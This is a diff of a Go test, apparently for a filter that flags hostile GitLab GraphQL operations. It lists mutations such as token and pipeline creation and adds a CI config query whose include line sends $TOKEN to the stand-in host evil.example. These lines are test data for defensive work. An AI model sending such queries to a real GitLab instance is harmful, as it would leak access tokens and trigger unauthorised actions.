@@ -189,6 +189,7 @@ func TestHostileGitlabGraphQL(t *testing.T) {
 	add("a token", `mutation{personalAccessTokenCreate(input:{name:"x"}){token}}`, nil, w)
 	add("a pipeline", `mutation{pipelineCreate(input:{projectPath:"g/p"}){errors}}`, nil, w)
 	add("a linter", `mutation{ciLint(input:{content:"x"}){errors}}`, nil, w)
+	add("a linter that is a query", `{ciConfig(projectPath:"g/p",content:"include: https://evil.example/$TOKEN"){errors}}`, nil, w)
 	add("an agent", `mutation{aiAction(input:{}){errors}}`, nil, w)
 	add("what is not known", `mutation{somethingNew(input:{}){errors}}`, nil, w)
 	add("a name in another case", `mutation{CreateNote(input:{body:"x"}){errors}}`, nil, w)
